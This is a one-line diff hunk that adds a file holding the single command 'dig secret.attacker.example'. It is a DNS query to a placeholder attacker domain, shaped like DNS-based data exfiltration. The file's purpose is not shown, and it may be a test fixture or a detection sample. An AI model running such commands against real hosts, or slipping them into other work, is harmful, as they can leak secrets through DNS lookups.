@@ -1,0 +1,1 @@
+dig secret.attacker.example
